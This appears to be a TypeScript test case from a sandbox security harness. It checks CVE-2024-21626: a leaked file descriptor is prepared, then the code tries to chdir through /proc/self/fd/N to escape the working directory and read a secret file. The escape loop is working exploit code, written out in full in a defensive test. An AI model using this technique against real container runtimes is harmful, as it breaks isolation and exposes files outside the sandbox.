// SPDX-License-Identifier: Apache-2.0
import type { Attack } from "../harness/attack.ts";
import { leakDescriptor } from "../harness/leak.ts";

export const hostile: Attack = {
  claim:
    "The working directory cannot be set through /proc/self/fd/N to a directory outside (CVE-2024-21626)",
  proof: "secret",
  prepare: (site) => leakDescriptor(site, site.outside),
  program: (cell) => {
    const fs = cell.node("node:fs");
    const found: string[] = [];
    for (let fd = 3; fd < 128; fd++) {
      try {
        process.chdir(`/proc/self/fd/${fd}`);
        found.push(cell.loot(fs.readFileSync("secret.txt")));
      } catch {}
    }
    // Other runs leak as well: all that was found is said.
    return found.length > 0 ? found.join() : cell.refused("EBADF");
  },
};
